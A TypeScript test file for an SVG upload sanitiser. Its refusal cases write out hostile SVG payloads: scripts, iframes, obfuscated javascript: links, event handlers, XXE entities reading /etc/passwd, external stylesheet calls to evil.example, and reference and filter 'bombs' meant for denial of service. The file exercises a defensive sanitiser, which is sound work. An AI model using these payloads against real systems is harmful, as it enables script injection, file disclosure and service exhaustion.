import { describe, expect, it } from "vitest";
import { isQuotaError, SVG_UPLOAD_MESSAGE } from "../../contract";
import { InvalidInputError } from "../errors";
import { SvgTooComplexError, sanitiseUploadedSvg, UnreadableSvgError, UnsafeSvgError } from ".";

const SVG = "http://www.w3.org/2000/svg";
const XLINK = "http://www.w3.org/1999/xlink";
const XHTML = "http://www.w3.org/1999/xhtml";

function sanitise(svg: string): string {
  return sanitiseUploadedSvg(Buffer.from(svg, "utf8")).toString("utf8");
}

function refusal(svg: string): unknown {
  try {
    sanitise(svg);
  } catch (error) {
    return error;
  }
  return null;
}

function reasonOf(svg: string): string | null {
  const error = refusal(svg);
  return error instanceof UnsafeSvgError ? error.reason : null;
}

describe("sanitiseUploadedSvg: what is kept", () => {
  it("writes a plain drawing back with its shapes, gradients and internal references", () => {
    const out = sanitise(
      `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient><circle id="c" r="2"/></defs><rect width="10" height="10" fill="url(#g)"/><use xlink:href="#c" x="5" y="5"/><use href="#c"/></svg>`,
    );
    expect(out).toBe(
      `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient><circle id="c" r="2"/></defs><rect width="10" height="10" fill="url(#g)"/><use x="5" y="5" xlink:href="#c"/><use xlink:href="#c"/></svg>`,
    );
  });

  it("reads elements and attributes by namespace, not by prefix", () => {
    const out = sanitise(
      `<s:svg xmlns:s="${SVG}" xmlns:l="${XLINK}" viewBox="0 0 4 4"><s:rect id="r" s:width="4" height="4"/><s:use l:href="#r"/></s:svg>`,
    );
    expect(out).toContain(`<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 4 4">`);
    expect(out).toContain('<rect id="r" width="4" height="4"/><use xlink:href="#r"/>');
  });

  it("drops what a logo does not need: comments, metadata, editor namespaces, animation, unknown elements", () => {
    const out = sanitise(
      `<?xml version="1.0" encoding="UTF-8"?><!-- made by hand --><svg xmlns="${SVG}" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3" viewBox="0 0 4 4"><metadata><x/></metadata><inkscape:grid/><rect width="4" height="4" inkscape:label="bg" fill="#123456"><animate attributeName="fill" to="red"/></rect><a href="https://example.com"><circle r="1"/></a><unknown-thing/></svg>`,
    );
    expect(out).toBe(
      `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 4 4"><rect width="4" height="4" fill="#123456"/><circle r="1"/></svg>`,
    );
  });

  it("keeps text, styles and embedded raster images, escaped", () => {
    const png = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
      "base64",
    ).toString("base64");
    const out = sanitise(
      `<svg xmlns="${SVG}" viewBox="0 0 4 4"><style>/* brand */ .a { fill: rgb(1,2,3) } rect > .a { stroke: url(#g) }</style><text class="a" x="0" y="3">R&amp;D &lt;co&gt; شركة</text><image width="1" height="1" href="data:image/png;base64,${png}"/></svg>`,
    );
    expect(out).toContain("<style>.a { fill: rgb(1,2,3) } rect &gt; .a { stroke: url(#g) }</style>");
    expect(out).toContain(">R&amp;D &lt;co&gt; شركة</text>");
    expect(out).toContain(`xlink:href="data:image/png;base64,${png}"`);
  });

  it("accepts an SVG written without a namespace, as hand-written ones often are, and adds it", () => {
    expect(sanitise(`<svg viewBox="0 0 2 2"><rect width="2" height="2"/></svg>`)).toContain(
      `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 2 2"><rect width="2" height="2"/></svg>`,
    );
  });
});

describe("sanitiseUploadedSvg: the namespace-prefix bypasses of the security review", () => {
  it.each([
    ["a script", `<svg xmlns="${SVG}" xmlns:s="${SVG}"><s:script>alert(document.domain)</s:script></svg>`],
    ["a script", `<s:svg xmlns:s="${SVG}"><s:script href="https://evil.example/x.js"/></s:svg>`],
    [
      "embedded web content",
      `<svg xmlns="${SVG}" xmlns:s="${SVG}" xmlns:h="${XHTML}"><s:foreignObject><h:iframe src="https://evil.example"/></s:foreignObject></svg>`,
    ],
    [
      "embedded web content",
      `<svg xmlns="${SVG}" xmlns:h="${XHTML}"><h:iframe src="https://evil.example"/></svg>`,
    ],
    [
      "a link to another file or site",
      `<svg xmlns="${SVG}" xmlns:x="${XLINK}"><image x:href="file:///etc/passwd"/></svg>`,
    ],
    [
      "a link to another file or site",
      `<svg xmlns="${SVG}" xmlns:x="${XLINK}"><image x:href="http://evil.example/track.png"/></svg>`,
    ],
    [
      "an animated link",
      `<svg xmlns="${SVG}" xmlns:x="${XLINK}"><a><set attributeName="href" to="data&#58;text/html,hi"/><rect width="1" height="1"/></a></svg>`,
    ],
    [
      "a javascript: link",
      `<svg xmlns="${SVG}"><a><set attributeName="href" to="javascript&#58;alert(1)"/><rect width="1" height="1"/></a></svg>`,
    ],
    ["an animated link", `<svg xmlns="${SVG}"><set attributeName="x:href" to="#other"/></svg>`],
    [
      "a javascript: link",
      `<svg xmlns="${SVG}" xmlns:x="${XLINK}"><a x:href="java&#9;script:alert(1)"><rect/></a></svg>`,
    ],
    ["an event handler", `<svg xmlns="${SVG}" onload="alert(1)"><rect/></svg>`],
    ["an event handler", `<svg xmlns="${SVG}" xmlns:s="${SVG}"><rect s:onclick="alert(1)"/></svg>`],
    [
      "a document type declaration",
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="${SVG}"/>`,
    ],
    [
      "a document type declaration",
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="${SVG}"><text>&x;</text></svg>`,
    ],
    ["an external stylesheet", `<?xml-stylesheet href="https://evil.example/a.css"?><svg xmlns="${SVG}"/>`],
    [
      "a stylesheet import or web font",
      `<svg xmlns="${SVG}"><style>@import url(https://evil.example/a.css);</style></svg>`,
    ],
    [
      "a style we cannot check",
      `<svg xmlns="${SVG}"><style>rect { fill: u\\72l(https://evil.example) }</style></svg>`,
    ],
    [
      "a link to another file",
      `<svg xmlns="${SVG}"><rect style="fill:url('https://evil.example/a')"/></svg>`,
    ],
    ["a link to another file", `<svg xmlns="${SVG}"><rect fill="url(file:///etc/passwd#a)"/></svg>`],
    ["a style we cannot check", `<svg xmlns="${SVG}"><rect style="background:image-set('x.png' 1x)"/></svg>`],
    [
      "a link to another file or site",
      `<svg xmlns="${SVG}"><image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4="/></svg>`,
    ],
    ["a link to another file or site", `<svg xmlns="${SVG}"><use href="other.svg#logo"/></svg>`],
  ])("refuses %s: %s", (reason, svg) => {
    expect(reasonOf(svg)).toBe(reason);
  });

  it("words the refusal for the uploader, as a 400, without words the browser reads as a credit limit", () => {
    const error = refusal(`<svg xmlns="${SVG}" xmlns:s="${SVG}"><s:script>1</s:script></svg>`);
    expect(error).toBeInstanceOf(InvalidInputError);
    expect((error as Error).message).toBe(SVG_UPLOAD_MESSAGE.unsafe("a script"));
    expect(isQuotaError((error as Error).message)).toBe(false);
  });

  it("drops an href that is harmless where it stands, and never keeps a second one", () => {
    const out = sanitise(
      `<svg xmlns="${SVG}" xmlns:x="${XLINK}"><g href="#a"><rect id="a"/></g><use href="#a" x:href="#b"/><rect id="b"/></svg>`,
    );
    expect(out).toContain('<g><rect id="a"/></g><use xlink:href="#a"/>');
  });
});

describe("sanitiseUploadedSvg: unreadable files", () => {
  it.each([
    ["not well-formed", `<svg xmlns="${SVG}"><rect></svg>`],
    ["an undefined entity", `<svg xmlns="${SVG}"><text>&nbsp;</text></svg>`],
    ["an unbound prefix", `<svg xmlns="${SVG}"><x:rect/></svg>`],
    ["not an SVG root", `<html xmlns="${SVG}"/>`],
    ["an SVG root in another namespace", `<svg xmlns="urn:other"/>`],
    [
      "not UTF-8",
      Buffer.from([0x3c, 0x73, 0x76, 0x67, 0x3e, 0xff, 0x3c, 0x2f, 0x73, 0x76, 0x67, 0x3e]).toString(
        "latin1",
      ),
    ],
  ])("refuses %s", (_label, svg) => {
    const bytes = _label === "not UTF-8" ? Buffer.from(svg, "latin1") : Buffer.from(svg);
    expect(() => sanitiseUploadedSvg(bytes)).toThrow(UnreadableSvgError);
  });
});

/** Six levels of groups, each drawing the level below ten times, the last a blurred square. */
function useBomb(levels: number, copies: number): string {
  const parts = [
    `<svg xmlns="${SVG}" xmlns:xlink="${XLINK}" viewBox="0 0 100 100"><defs>`,
    `<filter id="blur"><feGaussianBlur stdDeviation="5"/></filter>`,
    `<g id="l0"><rect width="10" height="10" filter="url(#blur)"/></g>`,
  ];
  for (let level = 1; level <= levels; level++) {
    const uses = Array.from({ length: copies }, () => `<use xlink:href="#l${level - 1}"/>`);
    parts.push(`<g id="l${level}">${uses.join("")}</g>`);
  }
  parts.push(`</defs><use xlink:href="#l${levels}"/></svg>`);
  return parts.join("");
}

describe("sanitiseUploadedSvg: the drawing budget", () => {
  it("refuses the review's 1.4 KB bomb (6 levels of 10 <use> copies of a blurred square) before drawing", () => {
    const bomb = useBomb(6, 10);
    expect(Buffer.byteLength(bomb)).toBeLessThan(2000);
    const error = refusal(bomb);
    expect(error).toBeInstanceOf(SvgTooComplexError);
    expect(isQuotaError((error as Error).message)).toBe(false);
  });

  it("counts filtered copies apart from shapes: 40 copies of a blurred square are refused, 20 are not", () => {
    expect(refusal(useBomb(1, 40))).toMatchObject({ measure: "filtered shapes", found: 40 });
    expect(refusal(useBomb(1, 20))).toBeNull();
  });

  it("refuses a reference loop", () => {
    const loop = `<svg xmlns="${SVG}"><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>`;
    expect(refusal(loop)).toMatchObject({ measure: "levels of references" });
  });

  it("counts markers once per vertex and stylesheet references once per element", () => {
    const points = Array.from({ length: 3000 }, (_, i) => `${i},${i % 7}`).join(" ");
    const marker = `<marker id="m"><g>${"<circle r='1'/>".repeat(20)}</g></marker>`;
    expect(
      refusal(
        `<svg xmlns="${SVG}"><defs>${marker}</defs><polyline points="${points}" marker-mid="url(#m)"/></svg>`,
      ),
    ).toMatchObject({ measure: "shapes to draw once copies are counted" });
    const shapes = "<rect width='1' height='1'/>".repeat(40);
    expect(
      refusal(
        `<svg xmlns="${SVG}"><style>rect { filter: url(#f) }</style><filter id="f"><feGaussianBlur stdDeviation="1"/></filter>${shapes}</svg>`,
      ),
    ).toMatchObject({ measure: "filtered shapes" });
  });

  it("counts the dearer of two elements that share an id", () => {
    const copies = `<g id="x">${"<use href='#leaf'/>".repeat(300)}</g>`;
    const svg = `<svg xmlns="${SVG}"><rect id="leaf"/><g id="x"/>${copies}${"<use href='#x'/>".repeat(200)}</svg>`;
    expect(refusal(svg)).toMatchObject({ measure: "shapes to draw once copies are counted" });
  });

  it("bounds filters: steps, blur radius, region, convolution and turbulence", () => {
    const filter = (body: string, attributes = "") =>
      `<svg xmlns="${SVG}" viewBox="0 0 100 100"><filter id="f" ${attributes}>${body}</filter><rect filter="url(#f)" width="9" height="9"/></svg>`;
    expect(refusal(filter("<feOffset/>".repeat(17)))).toMatchObject({ measure: "steps in one filter" });
    expect(refusal(filter('<feGaussianBlur stdDeviation="5000"/>'))).toMatchObject({
      measure: "units of blur radius",
    });
    expect(refusal(filter('<feMorphology radius="90"/>'))).toMatchObject({ measure: "units of blur radius" });
    expect(refusal(filter("<feFlood/>", 'width="5000%"'))).toMatchObject({
      measure: "times its size in filter area",
    });
    expect(refusal(filter('<feConvolveMatrix order="9"/>'))).toMatchObject({
      measure: "rows in a convolution",
    });
    expect(refusal(filter('<feTurbulence numOctaves="40"/>'))).toMatchObject({
      measure: "octaves of turbulence",
    });
    expect(
      refusal(filter('<feGaussianBlur stdDeviation="4"/><feOffset dx="2"/>', 'width="150%"')),
    ).toBeNull();
  });

  it("refuses an image bomb embedded as a data: URL by the size its header states", () => {
    const header = Buffer.alloc(33);
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(header, 0);
    header.writeUInt32BE(13, 8);
    header.write("IHDR", 12, "latin1");
    header.writeUInt32BE(100_000, 16);
    header.writeUInt32BE(100_000, 20);
    const svg = `<svg xmlns="${SVG}"><image href="data:image/png;base64,${header.toString("base64")}"/></svg>`;
    expect(refusal(svg)).toMatchObject({ measure: "pixels in one embedded image" });
    expect(reasonOf(`<svg xmlns="${SVG}"><image href="data:image/png;base64,AAAA"/></svg>`)).toBe(
      "an embedded image we cannot read",
    );
  });

  it("refuses deep nesting and too many elements while reading, before building the tree", () => {
    const deep = `<svg xmlns="${SVG}">${"<g>".repeat(100)}${"</g>".repeat(100)}</svg>`;
    expect(refusal(deep)).toMatchObject({ measure: "levels of nesting", found: 101 });
    const many = `<svg xmlns="${SVG}">${"<rect/>".repeat(25_000)}</svg>`;
    expect(refusal(many)).toMatchObject({ measure: "elements", found: 25_001 });
  });
});
